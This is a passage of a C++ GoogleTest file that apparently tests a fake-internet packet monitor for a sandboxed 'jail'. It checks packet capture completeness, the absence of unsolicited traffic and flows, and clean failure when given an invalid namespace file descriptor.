    std::this_thread::sleep_for(std::chrono::milliseconds(300));  // the FIN exchange
    return "at_start=" + std::to_string(at_start) + " after_idle=" + std::to_string(after_idle) +
           " link=" + std::to_string(link_packets()) + " tcp=" + (t >= 0 ? "ok" : "fail");
  });
  ASSERT_TRUE(fi) << out;
  unsigned long long at_start = 99, after_idle = 99, link = 0;
  char tcp[8] = {};
  ASSERT_EQ(std::sscanf(out.c_str(), "at_start=%llu after_idle=%llu link=%llu tcp=%7s", &at_start,
                        &after_idle, &link, tcp),
            4)
      << out;
  EXPECT_STREQ(tcp, "ok");
  EXPECT_EQ(at_start, 0u) << "packets crossed the link before the jail sent any";
  EXPECT_EQ(after_idle, 0u) << "the link talks on its own while the jail is idle";
  auto st = fi->stats();
  EXPECT_GE(link, 20u + 6u);
  EXPECT_EQ(st.packets_captured, link) << "the capture must hold every packet of the link";
  EXPECT_EQ(st.pcap_ps_recv, st.packets_captured);
  EXPECT_EQ(st.pcap_ps_drop, 0u);
  for (const auto& f : st.flows)
    EXPECT_EQ(int(f.key.src.family), 4)
        << "a flow the jail did not start: " << f.key.src.to_string() << " -> "
        << f.key.dst.to_string();
}

TEST_F(FakeInternetTest, BadJailFdFailsCleanly) {
  GS_REQUIRE_ROOT();
  std::string before = host_snapshot();
  auto fi = FakeInternet::make(-1, {});
  EXPECT_FALSE(fi.ok());
  FD not_netns(open("/dev/null", O_RDONLY | O_CLOEXEC));
  auto fi2 = FakeInternet::make(not_netns.get(), {});
  EXPECT_FALSE(fi2.ok());
  EXPECT_EQ(host_snapshot(), before);
}

}  // namespace
}  // namespace gs::netmon
